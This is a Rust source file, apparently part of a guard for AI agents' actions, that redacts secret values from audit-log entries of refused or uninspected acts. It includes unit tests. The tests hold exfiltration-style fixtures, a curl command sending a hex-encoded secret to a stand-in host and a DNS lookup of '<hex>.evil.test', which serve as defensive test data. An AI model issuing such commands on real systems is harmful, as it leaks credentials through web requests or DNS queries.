//! Keeps known values out of the records of the acts that held them.
//!
//! Owns [`Withheld`], a ledger in front of the real one. An act that was refused for a secret is told with the secret's name in
//! the place of its value, in whatever form it stood there; so are the paths and words that no rule looks into. It decides
//! nothing, and an act that was let pass is recorded to the letter: the same search found nothing in it.

use std::sync::Arc;

use creel_guard::{Action, Actor, BoxFuture, Deed, Entry, Ledger, LedgerClosed, Outcome, RecordId, Verdict};

use super::watch::Watch;

/// The ledger, without values.
pub(super) struct Withheld {
    pub(super) ledger: Arc<dyn Ledger>,
    pub(super) watch: Arc<Watch>,
}

impl Ledger for Withheld {
    fn admitted(&self, mut entry: Entry) -> BoxFuture<'_, Result<RecordId, LedgerClosed>> {
        let looked_at = matches!(entry.action.deed, Deed::Send(_) | Deed::Resolve(_) | Deed::Run(_) | Deed::Call(_));
        let clean =
            looked_at && entry.action.actor == Actor::Agent && !matches!(entry.judgement.verdict, Verdict::Deny(_));
        if !clean {
            withhold(&self.watch, &mut entry);
        }
        self.ledger.admitted(entry)
    }

    fn settled(&self, record: RecordId, outcome: Outcome) {
        self.ledger.settled(record, outcome);
    }
}

/// Takes the values out of what was written by the one who acts. What is split over several texts takes all of them along.
fn withhold(watch: &Watch, entry: &mut Entry) {
    if let Some(name) = watch.held_by(&entry.action) {
        texts_of(&mut entry.action).into_iter().for_each(|text| *text = watch.without(text));
        if watch.held_by(&entry.action).is_some() {
            let told = format!("[withheld: it holds the secret {name}]");
            texts_of(&mut entry.action).into_iter().for_each(|text| text.clone_from(&told));
        }
        if let Deed::Resolve(resolve) = &mut entry.action.deed {
            resolve.host = None;
        }
        if let Deed::Send(send) = &mut entry.action.deed {
            send.headers = creel_guard::Headers::default();
        }
    }
    if let Some(call) = &mut entry.facts.call {
        for argument in &mut call.arguments {
            argument.value = watch.without(&argument.value);
            argument.passage = argument.passage.as_deref().map(|passage| watch.without(passage));
        }
    }
}

/// Every text of an act that its actor chose.
fn texts_of(action: &mut Action) -> Vec<&mut String> {
    match &mut action.deed {
        Deed::Send(send) => vec![&mut send.path],
        Deed::Resolve(resolve) => vec![&mut resolve.name],
        Deed::Run(run) => run.argv.iter_mut().chain([&mut run.program, &mut run.cwd]).collect(),
        Deed::Call(call) => vec![&mut call.arguments],
        Deed::Touch(touch) => vec![&mut touch.path],
        Deed::Attempt(attempt) => vec![&mut attempt.what],
        Deed::Receive(receive) => vec![&mut receive.text],
        Deed::Prompt(_) | Deed::Administer(_) => Vec::new(),
    }
}

#[cfg(test)]
mod tests {
    use std::sync::Mutex;

    use creel_guard::{Durability, Facts, Judgement, Obligations, Refusal, Resolve, RuleId, Run, Tenant, Touch};

    use super::super::watch::tests::{SECRET, watch};
    use super::*;
    use crate::canary::scratch::Scratch;

    #[derive(Default)]
    struct Kept(Mutex<Vec<Action>>);

    impl Ledger for Kept {
        fn admitted(&self, entry: Entry) -> BoxFuture<'_, Result<RecordId, LedgerClosed>> {
            self.0.lock().unwrap().push(entry.action);
            Box::pin(std::future::ready(Ok(RecordId(1))))
        }

        fn settled(&self, _record: RecordId, _outcome: Outcome) {}
    }

    /// The deed as it is written down.
    fn written(deed: Deed, allowed: bool) -> Deed {
        let (home, kept) = (Scratch::new(), Arc::new(Kept::default()));
        let ledger = Withheld { ledger: kept.clone(), watch: watch(&home.0).0 };
        let rule = RuleId::new("test/rule");
        let verdict = if allowed {
            Verdict::Allow(Obligations::default())
        } else {
            Verdict::Deny(Refusal::new(rule.clone(), "no", "no"))
        };
        let (tenant, door) = (Tenant::parse("main").unwrap(), creel_guard::Door::Exec);
        let entry = Entry {
            action: Action { tenant, actor: Actor::Agent, door, deed },
            facts: Facts::default(),
            judgement: Judgement { verdict, rule, why: String::new(), generation: 1 },
            answer: None,
            durability: Durability::Soon,
        };
        drop(ledger.admitted(entry));
        let kept = kept.0.lock().unwrap().pop().unwrap();
        kept.deed
    }

    fn run(words: &[&str]) -> Deed {
        Deed::Run(Run { argv: words.iter().map(|word| (*word).to_owned()).collect(), ..Run::default() })
    }

    #[test]
    fn a_refused_act_is_told_without_the_value_in_any_form() {
        let hex: String = SECRET.bytes().map(|byte| format!("{byte:02x}")).collect();
        let (front, back) = SECRET.split_at(14);
        let split = [front, back];
        for words in [&["echo", SECRET][..], &["curl", &format!("https://a.test/?k={hex}")], &split] {
            let Deed::Run(told) = written(run(words), false) else { panic!() };
            let all = told.argv.join(" ");
            assert!(!all.contains(SECRET) && !all.contains(&hex) && !all.contains(back), "{all}");
            assert!(all.contains("KEY"), "{all}");
            assert_eq!(told.argv.len(), words.len());
        }
        let Deed::Run(told) = written(run(&["echo", SECRET]), false) else { panic!() };
        assert_eq!(told.argv[0], "echo", "the rest is told");
        let name = format!("{hex}.evil.test");
        let resolve = Resolve { name, host: None, kind: "A".to_owned() };
        let Deed::Resolve(told) = written(Deed::Resolve(resolve), false) else { panic!() };
        assert!(!told.name.contains(&hex), "{told:?}");
        let touch = Touch { how: "create".to_owned(), path: format!("/workspace/{SECRET}"), ..Touch::default() };
        let Deed::Touch(told) = written(Deed::Touch(touch), true) else { panic!() };
        assert!(told.path.starts_with("/workspace/[") && !told.path.contains(SECRET), "{told:?}");
    }

    #[test]
    fn an_act_without_one_is_told_to_the_letter() {
        for allowed in [false, true] {
            assert_eq!(written(run(&["echo", "harmless"]), allowed), run(&["echo", "harmless"]));
        }
    }
}
